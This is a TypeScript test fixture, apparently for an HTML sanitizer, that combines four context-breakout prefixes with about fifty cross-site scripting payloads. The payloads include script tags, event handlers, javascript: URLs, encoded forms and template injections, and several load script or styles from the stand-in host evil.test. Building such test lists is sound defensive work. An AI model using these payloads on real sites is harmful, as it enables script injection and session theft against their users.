/** Contexts that a string may break out of. */
const ESCAPES = ['', '">', "'>", '</p>'];

const HARMS = [
  '<script>alert(1)</script>',
  '<script src=//evil.test></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)//',
  '<img src=/x onerror=alert(1)>',
  '<img src=//evil.test/x>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<svg><animate onbegin=alert(1)>',
  '<math><mi xlink:href=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action=javascript:alert(1)>',
  '<button formaction=javascript:alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=/x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<meta http-equiv=refresh content=0>',
  '<base href=//evil.test/>',
  '<link rel=stylesheet href=//evil.test>',
  '<style>@import "//evil.test"</style>',
  '<p style=background:url(//evil.test)>',
  '<p onmouseover=alert(1)>x',
  '<template><script>alert(1)',
  '<noscript><p title="</noscript><img>">',
  '<textarea onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<!--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)]]>',
  '<?xml version="1.0"?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '\\u003cscript\\u003ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{alert(1)}',
];

/** 200 strings. */
export const STRINGS: readonly string[] = ESCAPES.flatMap((before) => HARMS.map((harm) => before + harm));

/** Removes as many strings from the start of the list as fit into `length` characters. */
export function takeText(strings: string[], most: number): string {
  let text = strings.shift() ?? '<b>';
  while (strings[0] !== undefined && text.length + 1 + strings[0].length <= most)
    text += ` ${strings.shift()}`;
  return text;
}
